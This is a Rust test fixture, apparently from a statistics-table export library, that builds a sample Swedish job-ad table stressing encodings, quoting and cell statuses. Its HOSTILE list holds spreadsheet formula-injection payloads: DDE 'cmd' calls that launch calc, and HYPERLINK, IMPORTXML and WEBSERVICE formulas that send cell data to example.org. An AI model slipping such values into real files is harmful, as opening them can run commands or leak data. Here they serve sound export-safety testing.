//! A table made by hand that holds what files get wrong: Swedish letters, every status, quotes, semicolons, names that look like formulas.

use svall::table::{Category, Cell, CellStatus, CodeList, CodeListKind, CodeListValue, Dimension, Note, Role, Source, Table, Text, View};

/// Names that a spreadsheet may take for formulas, or that break a row.
pub(crate) const HOSTILE: [&str; 13] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.org/?x=\"&A1,\"klicka\")",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "=IMPORTXML(CONCAT(\"http://example.org/\", A1), \"//a\")",
    "Bolaget\";=1+1;\"",
    "\u{ff1d}1+1",
    "=WEBSERVICE(\"http://example.org/\")",
];

fn category(code: &str, sv: &str, en: &str) -> Category {
    Category::new(code, Text::new(sv, en))
}

fn measure(code: &str, sv: &str, en: &str, unit: (&str, &str), decimals: u8) -> Category {
    Category { unit: Some(Text::new(unit.0, unit.1)), decimals, ..category(code, sv, en) }
}

/// 4 regions, 16 employers, 3 measures and 3 years.
pub(crate) fn table() -> Table {
    let mut employers = vec![
        category("2120000456", "Linköpings kommun", "Linköping Municipality"),
        category("0000000000", "Ångpanneföreningen, \"ÅF\"; Östersund", "Ångpanneföreningen, \"ÅF\"; Östersund"),
        Category {
            note: Some(Text::new("Bytte namn 2024.", "Changed its name in 2024.")),
            ..category("0000000001", "Łódź – Stål & Söner <AB>", "Łódź – Steel & Sons <Ltd>")
        },
    ];
    employers.extend((0..).zip(HOSTILE).map(|(n, name)| category(&format!("X{n:02}"), name, name)));
    let dimensions = vec![
        Dimension {
            code: "Region",
            label: Text::new("Region", "Region"),
            role: Role::Geo,
            categories: vec![
                category("00", "Riket", "Sweden"),
                category("0580", "Linköping", "Linköping"),
                category("0560", "Boxholm", "Boxholm"),
                category("2321", "Åre", "Åre"),
            ],
            elimination: Some("00".to_owned()),
            code_lists: vec![CodeList {
                id: "vs_Kommun",
                label: Text::new("Kommuner", "Municipalities"),
                kind: CodeListKind::Valueset,
                values: ["0580", "0560", "2321"]
                    .map(|code| CodeListValue { code: code.to_owned(), label: Text::same(code), members: vec![code.to_owned()] })
                    .to_vec(),
            }],
        },
        Dimension {
            code: "Arbetsgivare",
            label: Text::new("Arbetsgivare", "Employer"),
            role: Role::Classification,
            categories: employers,
            elimination: None,
            code_lists: Vec::new(),
        },
        Dimension {
            code: "ContentsCode",
            label: Text::new("Mått", "Measure"),
            role: Role::Metric,
            categories: vec![
                measure("n_ads", "Antal annonser", "Number of ads", ("antal", "number"), 0),
                measure("intensity", "Intensitet", "Intensity", ("träffar per 1 000 ord", "hits per 1,000 words"), 1),
                measure("share", "Andel annonser med digitala ord", "Share of ads with digital words", ("procent", "per cent"), 2),
            ],
            elimination: None,
            code_lists: Vec::new(),
        },
        Dimension {
            code: "Tid",
            label: Text::new("År", "Year"),
            role: Role::Time,
            categories: ["2023", "2024", "2025"].map(|year| Category::new(year, Text::same(year))).to_vec(),
            elimination: None,
            code_lists: Vec::new(),
        },
    ];
    let n_cells: u32 = dimensions.iter().map(|d| u32::try_from(d.categories.len()).unwrap()).product();
    let cells = (0..n_cells)
        .map(|n| match (n % 9 / 3, n % 31) {
            (_, 7) => Cell::without(CellStatus::Suppressed),
            (_, 11) => Cell::without(CellStatus::Protected),
            (_, 17) => Cell::without(CellStatus::Missing),
            (_, 23) => Cell::without(CellStatus::NotApplicable),
            (0, _) => Cell::of(f64::from(n * n % 1_000_003)),
            (_, 5) => Cell::of(0.0),
            (_, 6) => Cell::of(-0.125),
            _ => Cell::of(f64::from(n) / 7.0),
        })
        .collect();
    Table {
        id: "SVALL99".to_owned(),
        title: Text::new("Digital kompetens i platsannonser", "Digital competence in job ads"),
        description: Text::new("Räknat i annonsernas text.", "Counted in the text of ads."),
        view: Some(View::Employer),
        dimensions,
        stub: vec![0, 1],
        heading: vec![2, 3],
        cells,
        notes: vec![
            Note {
                text: Text::new(
                    "Måttet visar vad arbetsgivare skriver i sina annonser – inte vilken kompetens de anställda har. ".repeat(4),
                    "The measure shows what employers write in their ads, not the competence staff have. ".repeat(4),
                ),
                is_mandatory: true,
            },
            Note { text: Text::new("En \"annons\"; en rad.", "One \"ad\"; one row."), is_mandatory: false },
        ],
        source: Source {
            name: Text::new("Svall", "Svall"),
            run_id: "20261122T031000-abc".to_owned(),
            updated: "2026-11-22T03:10:00Z".to_owned(),
            program: "0.1.0".to_owned(),
            lexicon: "deadbeef".to_owned(),
            licence: "http://creativecommons.org/publicdomain/zero/1.0/".to_owned(),
        },
    }
}
